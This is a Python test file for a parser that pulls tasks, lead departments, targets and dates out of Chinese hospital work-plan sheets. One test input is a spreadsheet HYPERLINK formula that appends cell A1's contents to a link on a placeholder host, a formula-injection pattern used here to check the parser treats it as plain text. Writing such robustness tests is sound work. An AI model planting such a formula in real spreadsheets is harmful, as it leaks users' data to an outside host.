"""What an office's own files brought to light: addresses in items, bare values beside acts, the day of a sheet."""

from __future__ import annotations

import time

import pytest

import planparse

SHEET = (
    "青河县人民医院2026年度重点工作任务清单\n填报单位：院办公室    填报日期：2026年2月8日\n\n"
    "| 序号 | 重点工作 | 具体任务 | 目标值 | 牵头部门 | 配合部门 | 分管领导 | 完成时间 | 备注 |\n|---|---|---|---|---|---|---|---|---|\n"
    "| 1 | 科研 | 开展新技术新项目 | ≥15项 | 科教科 | 人力资源部 | | 2026.9.30 | |\n"
    "| 2 | 后勤 | 食堂满意度提升 | ≥90分 | 总务科 | | | 待定 | |\n"
    "| 3 | 后勤 | 开展应急演练4次 | 4次 | 保卫科 | | | 上半年 | |\n"
    "| 4 | 县域 | 创建胸痛中心 | 通过国家认证 | 急诊科 | | | 10月底 | |\n"
)


@pytest.mark.parametrize(
    "item",
    [
        "登录平台http://a.example/?id=1完成登记，登记率达到81%。",
        '=HYPERLINK("http://a.example/?x="&A1,"点我")完成登记。',
        "查明为何候诊时间长？整改问题。",
    ],
)
def test_an_item_that_somebody_answers_for_is_a_task_with_a_question_mark_too(item: str) -> None:
    plan = planparse.extract(
        f"一、重点任务\n1.{item}（牵头科室：医务科）\n2.修订制度。（牵头科室：护理部）\n"
    )
    assert [[d.name for d in task.lead] for task in plan.tasks] == [["医务科"], ["护理部"]]
    assert plan.tasks[0].text == item


def test_an_address_asks_nothing() -> None:
    plan = planparse.extract("一、重点任务\n1.登录平台http://a.example/?id=1完成登记。\n2.修订制度。\n")
    assert len(plan.tasks) == 2


def test_a_bare_value_beside_an_act_is_a_target_of_what_the_act_counts() -> None:
    plan = planparse.extract(SHEET)
    assert [(t.indicator, t.relation, t.value, t.unit) for t in plan.targets] == [
        ("新技术新项目", "ge", 15, "项"), ("食堂满意度", "ge", 90, "分"), ("应急演练", "eq", 4, "次"),
    ]  # fmt: skip


def test_the_day_of_a_sheet_is_not_that_of_a_row() -> None:
    assert planparse.extract(SHEET).document.date == "2026-02-08"
    row = (
        "2026年任务清单\n序号\t具体任务\t牵头部门\t分管领导\t完成时间\n1\t修订制度\t人力资源部\t\t2026.9.30\n"
    )
    assert planparse.extract(row).document.date is None


def test_long_values_take_no_long_time() -> None:
    started = time.process_time()
    planparse.extract(f"一、任务\n1.{'a?b=' * 20_000}完成。（医务科）\n")
    planparse.extract(
        "2026年清单\n| 任务 | 目标值 | 牵头部门 |\n|---|---|---|\n"
        + f"| {'开展' * 3000} | ≥{'9' * 3000}项 | 医务科 |\n" * 20
    )
    assert time.process_time() - started < 5
